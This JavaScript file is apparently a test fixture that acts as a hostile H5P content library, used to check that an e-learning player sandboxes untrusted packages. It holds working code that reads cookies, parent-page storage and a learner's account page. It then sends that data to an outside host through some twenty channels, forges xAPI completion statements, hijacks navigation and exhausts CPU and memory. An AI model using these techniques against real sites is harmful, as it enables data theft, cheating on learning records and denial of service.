// What a library that means harm would try. Runs in the player, and on a test page without any
// defence, where each of these succeeds. `where` has the addresses to try: `outside` (a server that
// counts what arrives), `stun` (a port that does), `account` (a page of the learner), `other` (a file
// of another package).
var here = document.currentScript.src;
function talk(from, stun) {
  var made = new from.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + stun }] });
  made.createDataChannel("x");
  return made.createOffer().then(function (offer) {
    return made.setLocalDescription(offer);
  });
}
// In a frame that it made for itself.
if (location.href === "about:srcdoc") talk(window, window.name);

window.tinyAttack = (function () {
  var attempt = function (act) {
    return new Promise(function (done) {
      setTimeout(function () {
        done("nothing");
      }, 1500);
      try {
        Promise.resolve(act()).then(done, function (error) {
          done("refused: " + error.name);
        });
      } catch (error) {
        done("refused: " + error.name);
      }
    });
  };
  var put = function (name, fields, into) {
    var made = Object.assign(document.createElement(name), fields);
    (into || document.body).appendChild(made);
    return made;
  };
  var text = function (address) {
    return fetch(address, { credentials: "include" }).then(function (answer) {
      return answer.text();
    });
  };

  var reads = {
    cookie: function () {
      var get = Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get;
      return get.call(document);
    },
    parent: function () {
      return window.parent.document.title;
    },
    storage: function () {
      return window.parent.localStorage.getItem("secret");
    },
    ownStorage: function () {
      var get = Object.getOwnPropertyDescriptor(Window.prototype, "localStorage");
      return (get ? get.get.call(window) : window.localStorage).getItem("secret");
    },
    account: function (where) {
      return text(where.account);
    },
    other: function (where) {
      return text(where.other);
    },
    window: function (where) {
      return window.open(where.outside + "window") ? "opened" : "refused";
    },
  };

  var sends = {
    fetch: function (to) {
      return fetch(to, { mode: "no-cors" });
    },
    image: function (to) {
      new Image().src = to;
    },
    font: function (to) {
      return new FontFace("Tiny", "url(" + to + ")").load();
    },
    style: function (to) {
      put("link", { rel: "stylesheet", href: to }, document.head);
    },
    inlineStyle: function (to) {
      put("style", { textContent: "body { background: url(" + to + ") } @import url(" + to + "i)" });
    },
    script: function (to) {
      put("script", { src: to });
    },
    media: function (to) {
      put("video", { src: to, autoplay: true });
    },
    object: function (to) {
      put("object", { data: to });
    },
    prefetch: function (to) {
      put("link", { rel: "prefetch", href: to }, document.head);
    },
    beacon: function (to) {
      return navigator.sendBeacon(to, "secret");
    },
    socket: function (to) {
      new WebSocket(to.replace("http", "ws"));
    },
    events: function (to) {
      new EventSource(to);
    },
    worker: function (to) {
      var code = "fetch('" + to + "', {mode: 'no-cors'})";
      new Worker(URL.createObjectURL(new Blob([code])));
    },
    frame: function (to) {
      put("iframe", { src: to });
    },
    innerFrame: function (to) {
      put("iframe", { srcdoc: "<img src='" + to + "'>" });
    },
    form: function (to) {
      put("form", { action: to, method: "post", target: put("iframe", { name: "f" }).name }).submit();
    },
    ping: function (to) {
      put("a", { href: "#x", ping: to }).click();
    },
    refresh: function (to) {
      put("meta", { httpEquiv: "refresh", content: "0;url=" + to }, document.head);
    },
  };
  var moves = {
    itself: function (to) {
      window.location.href = to;
    },
    top: function (to) {
      window.top.location.href = to;
    },
  };

  return async function (where) {
    var found = {};
    for (var name in reads) {
      found[name] = String(await attempt(reads[name].bind(null, where))).slice(0, 4000);
    }
    for (var way in sends) {
      // What moves the page itself comes last.
      if (way !== "refresh") await attempt(sends[way].bind(null, where.outside + way));
    }
    await attempt(talk.bind(null, window, where.stun));
    await attempt(function () {
      talk(put("iframe", {}).contentWindow, where.stun);
    });
    await attempt(function () {
      var code = '<script src="' + here + '"></' + "script>";
      put("iframe", { name: String(where.stun), srcdoc: code });
    });
    document.documentElement.dataset.found = JSON.stringify(found);
    await new Promise(function (done) {
      setTimeout(done, 1500);
    });
    for (var move in moves) await attempt(moves[move].bind(null, where.outside + move));
    await attempt(sends.refresh.bind(null, where.outside + "refresh"));
    document.documentElement.dataset.done = "yes";
  };
})();

window.tinyHarm = {
  attack: function (params) {
    window.tinyAttack(params.where);
  },
  loop: function () {
    setTimeout(function () {
      for (;;);
    }, 3000);
  },
  memory: function () {
    var kept = [];
    setInterval(function () {
      for (var i = 0; i < 20; i += 1) kept.push(new Uint8Array(8 * 1024 * 1024).fill(i + 1));
    }, 50);
  },
  flood: function () {
    setTimeout(function () {
      setInterval(function () {
        for (var i = 0; i < 500; i += 1) {
          window.parent.postMessage({ waymark: "state", key: "0/state", data: String(Math.random()) }, "*");
          window.parent.postMessage({ waymark: "statement", statement: '{"verb":{}}' }, "*");
          window.parent.postMessage("x".repeat(10000), "*");
        }
      }, 10);
    }, 1500);
  },
  // Keeps the keys that lead out from whoever listens after it.
  deaf: function () {},
  forge: function (params) {
    var say = function (kind, data) {
      window.parent.postMessage(Object.assign({ waymark: kind }, data), "*");
    };
    var verb = { id: "http://adlnet.gov/expapi/verbs/completed" };
    setTimeout(function () {
      params.statements.forEach(function (statement) {
        say("statement", { statement: JSON.stringify(Object.assign({ verb: verb }, statement)) });
      });
      var round = { verb: verb };
      round.round = round;
      [round, null, 7, "x", [], new Map(), new Date()].forEach(function (odd) {
        say("statement", { statement: odd });
        say(odd, odd);
        window.parent.postMessage(odd, "*");
      });
      say("statement", { statement: { verb: verb, big: BigInt(7) } });
      say("state", { key: "../../x", data: "x" });
      say("state", { key: "0/state", data: "y".repeat(300 * 1024) });
      say("height", { height: 1e9 });
      say("height", { height: "100vh" });
      say("exit", {});
      say("key", { type: "click", shift: true });
      window.parent.postMessage("exit", "*");
      for (var i = 0; i < 3; i += 1) {
        say("key", { type: "keydown", shift: true });
        say("key", { type: "keyup", shift: true });
      }
      try {
        new BroadcastChannel("exit").postMessage("exit");
      } catch (error) {
        // There is none here.
      }
    }, 1500);
  },
};

if (window.tinyDeaf) {
  ["keydown", "keyup"].forEach(function (type) {
    window.addEventListener(
      type,
      function (event) {
        event.stopImmediatePropagation();
        event.preventDefault();
      },
      true,
    );
  });
  window.parent = { postMessage: function () {} };
  Object.defineProperty(KeyboardEvent.prototype, "key", { value: "a" });
  window.wmSay = function () {};
}

if (window.H5P) {
  H5P.TinyHostile = function (params) {
    H5P.EventDispatcher.call(this);
    this.attach = function ($container) {
      $container.append("<p>Something to play</p>");
      window.tinyHarm[params.harm](params);
    };
  };
  H5P.TinyHostile.prototype = Object.create(H5P.EventDispatcher.prototype);
}
